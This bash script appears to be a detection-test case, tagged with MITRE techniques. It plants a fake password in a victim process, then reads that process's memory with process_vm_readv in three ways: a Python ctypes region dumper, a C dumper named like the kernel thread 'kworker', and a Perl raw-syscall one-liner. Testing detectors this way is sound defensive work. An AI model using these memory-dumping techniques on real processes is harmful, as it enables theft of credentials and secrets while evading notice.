#!/bin/bash
# desc: another process's memory read with process_vm_readv (no /proc/PID/mem, no ptrace): a python ctypes dumper walking /proc/PID/maps, a compiled dumper named like a kernel thread, a perl syscall() one-liner; each finds the victim's secret
# mitre: T1003.007, T1055.009
# expect: process_memory_read_by_syscall*3
source "$ATTACK_LIB"

# The victim: a process holding a "password", and where it is.
/usr/bin/python3 -c '
import ctypes, sys, time
buf = ctypes.create_string_buffer(b"hunter2-" * 64)
print(ctypes.addressof(buf), flush=True)
time.sleep(30)' >addr &
victim=$!
undo "kill $victim"
for i in $(seq 1 100); do [ -s addr ] && break; sleep 0.05; done
addr=$(cat addr)

# 1 python, ctypes, region by region from /proc/PID/maps
/usr/bin/python3 - "$victim" <<'PY' | grep -q hunter2
import ctypes, re, sys
pid = int(sys.argv[1])
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
out = []
for line in open("/proc/%d/maps" % pid):
    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
    if not m:
        continue
    start, end = int(m.group(1), 16), int(m.group(2), 16)
    size = min(end - start, 1 << 22)
    buf = ctypes.create_string_buffer(size)
    local, remote = iovec(ctypes.addressof(buf), size), iovec(start, size)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n > 0:
        out.append(buf.raw[:n])
sys.stdout.buffer.write(b"".join(out))
PY

# 2 a compiled dumper under a kernel thread's name
cat >d.c <<'C'
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
int main(int argc, char **argv)
{
	char buf[512];
	struct iovec l = { buf, sizeof(buf) }, r = { (void *)strtoull(argv[2], 0, 10), sizeof(buf) };
	ssize_t n = process_vm_readv(atoi(argv[1]), &l, 1, &r, 1, 0);
	return n > 0 && memmem(buf, n, "hunter2", 7) ? 0 : 1;
}
C
gcc -O1 -o "$ATTACK_TMP/kworker" d.c
"$ATTACK_TMP/kworker" "$victim" "$addr"

# 3 perl, the raw syscall (310 on x86_64)
perl -e '
my ($pid, $addr) = @ARGV; my $buf = "\0" x 256;
my $l = pack("QQ", unpack("Q", pack("p", $buf)), 256); my $r = pack("QQ", $addr, 256);
my $n = syscall(310, $pid + 0, $l, 1, $r, 1, 0);
exit($n > 0 && $buf =~ /hunter2/ ? 0 : 1);' "$victim" "$addr"
